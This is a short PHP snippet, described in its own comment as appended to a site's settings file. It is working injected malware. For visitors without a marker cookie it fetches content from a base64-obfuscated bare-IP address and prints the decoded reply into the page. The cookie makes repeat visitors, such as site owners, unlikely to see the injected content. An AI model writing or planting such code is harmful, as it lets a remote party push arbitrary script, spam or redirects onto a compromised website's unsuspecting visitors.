<?php
// appended to a site's settings file: every visitor without the marker cookie gets a block
// that a remote host writes, from an address kept out of sight
function grab_block($where)
{
    $c = curl_init();
    curl_setopt($c, CURLOPT_URL, $where);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($c, CURLOPT_TIMEOUT, 4);
    $txt = curl_exec($c);
    curl_close($c);
    return trim((string) $txt);
}

if (!isset($_COOKIE['_seen_v2'])) {
    setcookie('_seen_v2', '1', time() + 86400 * 5, '/');
    $where = base64_decode('aHR0cDovLzE5OC41MS4xMDAuNy9ibG9ja3MvP2lkPTQy');
    if (($block = grab_block($where)) && ($shown = base64_decode($block, true))) {
        print $shown;
    }
}
